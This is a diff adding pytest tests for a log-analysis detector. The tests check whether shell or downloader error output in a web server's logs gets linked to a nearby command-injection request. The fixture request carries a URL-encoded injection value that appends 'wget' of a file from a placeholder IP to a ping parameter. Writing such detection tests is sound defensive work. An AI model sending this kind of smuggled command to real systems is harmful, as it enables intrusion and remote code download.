@@ -1,0 +1,77 @@
+"""A shell's or downloader's own words in an error log, and which attack they go with."""
+
+from __future__ import annotations
+
+import pytest
+from tests.detection.behaviours.story import Story, clock
+
+from siaga.detection.behaviours.injection.process_output import Outputs
+
+BAD = "203.0.113.5"
+AT = "10 14:00:10"
+
+
+def _story(query: str = "host=8.8.8.8%3Bwget+http%3A%2F%2F198.51.100.9%2Fkucing77") -> Story:
+    story = Story()
+    story.ask(AT, BAD, f"/ping.php?{query}", families=("command-injection",))
+    return story
+
+
+def _near(story: Story) -> list[str]:
+    scene = story.scene()
+    return [happening.event.message for happening in Outputs(scene).near(scene.moves)]
+
+
+def test_output_close_in_time_goes_with_the_attack() -> None:
+    story = _story()
+    story.tell("10 14:00:12", "output", message="sh: 1: whoami: not found")
+    assert _near(story) == ["sh: 1: whoami: not found"]
+
+
+def test_output_far_off_in_time_does_not() -> None:
+    story = _story()
+    story.tell("10 14:03:00", "output", message="sh: 1: whoami: not found")
+    assert _near(story) == []
+
+
+def test_output_that_names_what_was_sent_may_lie_further_off() -> None:
+    story = _story()
+    story.tell("10 14:03:00", "output", message="Saving to: 'kucing77'")
+    assert _near(story) == ["Saving to: 'kucing77'"]
+
+
+def test_a_line_without_a_stamp_must_name_what_was_sent() -> None:
+    story = _story()
+    story.tell(None, "output", message="sh: 1: whoami: not found")
+    story.tell(None, "output", message="cannot write kucing77")
+    assert _near(story) == ["cannot write kucing77"]
+
+
+@pytest.mark.parametrize(("hours", "found"), [(7, True), (30, False)])
+def test_a_clock_that_was_never_compared_may_be_in_any_zone(hours: int, found: bool) -> None:  # noqa: FBT001 (a table's column)
+    story = _story()
+    story.tell(clock(AT) + hours * 3_600_000_000, "output", message="Saving to: 'kucing77'")
+    assert bool(_near(story)) == found
+
+
+def test_a_clock_that_was_compared_is_set_right() -> None:
+    story = _story()
+    for number in range(8):
+        at = clock("10 10:00") + number * 137_000_000
+        story.ask(at, f"198.51.100.{number}", f"/hilang-{number}", 404)
+        # the error log's clock is seven hours ahead
+        story.tell(at + 7 * 3_600_000_000, "error", client=f"198.51.100.{number}", message="File does not exist")
+    story.tell(clock(AT) + 7 * 3_600_000_000 + 2_000_000, "output", message="sh: 1: whoami: not found")
+    assert _near(story) == ["sh: 1: whoami: not found"]
+
+
+def test_common_words_name_nothing() -> None:
+    story = _story("page=index%3Becho")
+    story.tell(None, "output", message="index page: http echo")
+    assert _near(story) == []
+
+
+def test_ordinary_errors_are_no_output() -> None:
+    story = _story()
+    story.tell("10 14:00:12", "error", message="kucing77: File does not exist")
+    assert _near(story) == []
